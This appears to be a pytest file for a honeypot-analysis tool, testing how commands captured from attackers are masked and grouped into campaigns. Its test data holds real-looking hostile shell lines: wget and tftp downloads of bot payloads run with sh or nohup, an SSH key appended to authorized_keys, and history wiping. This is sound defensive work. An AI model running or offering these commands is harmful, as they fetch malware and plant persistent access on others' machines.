"""What of a script changes from one victim to the next, and what is left to know it by."""

from __future__ import annotations

import random
import string

import pytest

from cowrie_enrich_dagster.campaigns.masking import mask, script_of

KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC" + "Zk3v+9Lm" * 40


@pytest.mark.parametrize(
    ("line", "masked"),
    [
        ("cd /tmp; wget http://45.9.148.1:81/a/b.sh?x=1; sh b.sh", "cd /tmp; wget <url>; sh b.sh"),
        ("tftp 198.51.100.7 -c get bot.arm7", "tftp <ip> -c get bot.arm7"),
        ("tftp -g -r mips 2001:db8::7", "tftp -g -r mips <ip>"),
        ("chmod 777 .kq3Zl0\t&&  ./.kq3Zl0 1234", "chmod <x> .<x> && ./.<x> <x>"),
        ("/bin/busybox KDVJS", "/bin/busybox <x>"),
        (r'echo -ne "\x7f\x45\x4c\x46\x01" >> loader', 'echo -ne "<data>" >> loader'),
        ("echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IQ== | base64 -d", "echo <data> | base64 -d"),
        ("cat /usr/local/share/applications/defaults/readme", None),
        ("python3 -c x; sha256sum x86_64; rm ~/.bash_history", None),
        (f'echo "ssh-rsa {KEY} mdrfckr" >> .ssh/authorized_keys',
         f'echo "ssh-rsa {KEY} <x>" >> .ssh/authorized_keys'),
    ],
)  # fmt: skip
def test_what_is_masked(line: str, masked: str | None) -> None:
    """Addresses, numbers, data and random names; not what a shell knows, paths, words, nor a planted key."""
    assert mask(line).text == (masked or line)


@pytest.mark.parametrize(
    "lines",
    [
        ["uname -a"],
        ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"],
        ["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4}'", "w"],
        ["dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"],
        [">/tmp/.ptmx && cd /tmp/", ">/var/.ptmx && cd /var/", ">/dev/shm/.ptmx && cd /dev/shm/"],
        ["cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox YZUGF"],
        ["tftp; wget; /bin/busybox KDVJS"],
        ["cat /proc/uptime 2 > /dev/null | cut -d. -f1", "uname -s -v -n -r -m 2>&1"],
        ["wget http://45.9.148.1/x", "sh x"],
        ["crontab -l", "export HISTFILE=/dev/null", "history -c"],
        ["rm x"] * 50,
        [],
    ],
)
def test_what_is_no_script(lines: list[str]) -> None:
    """Looking around, opening a shell, asking what there is, and what is too short to be anyone's."""
    assert script_of(lines) is None


def test_a_script_is_the_same_whatever_changes_in_it() -> None:
    """Other hosts, ports, numbers and names; with or without a look around; data in more or fewer lines."""
    rng = random.Random(3)

    def name(letters: str, length: int) -> str:
        return "".join(rng.choices(letters, k=length))

    def once() -> tuple[str, ...]:
        one, other = name(string.ascii_lowercase + string.digits, 9), name(string.ascii_letters, 8)
        host = ".".join(str(rng.randrange(256)) for _ in range(4))
        before = rng.choice([(), ("uname -a",), ("enable", "sh")])
        data = tuple(
            rf'echo -ne "\x{rng.randrange(256):02x}\x00" >> .{one}' for _ in range(rng.randint(1, 9))
        )
        return (
            *before,
            f"cd /tmp; wget -q http://{host}:{rng.randrange(9999)}/{name(string.hexdigits, 6)} -O {other}",
            *data,
            f"chmod +x {other} .{one}; nohup ./{other} {rng.randrange(10**6)} & rm -rf .{one}",
        )

    scripts = {script_of(once()) for _ in range(300)}
    assert len(scripts) == 1, scripts
    assert None not in scripts


def test_one_random_name_of_letters_in_a_hundred_passes_for_a_word_at_most() -> None:
    """The known limit: names without digits and capitals can look like words."""
    rng = random.Random(4)
    names = ["".join(rng.choices(string.ascii_lowercase, k=8)) for _ in range(5_000)]
    kept = [name for name in names if mask(f"./{name}").text != "./<x>"]
    assert 0 < len(kept) < 50


def test_hostile_lines_cost_no_more_than_others() -> None:
    """No expression backtracks over what an attacker repeats."""
    for unit in (
        "1.",
        ":",
        "a:",
        "\\x",
        "\\x41",
        "A",
        "http://",
        "<<>>",
        "tftp ",
        "> ",
        "&1",
        "AAAAB",
        "_",
        "9",
    ):
        mask((unit * 4096)[:4096])
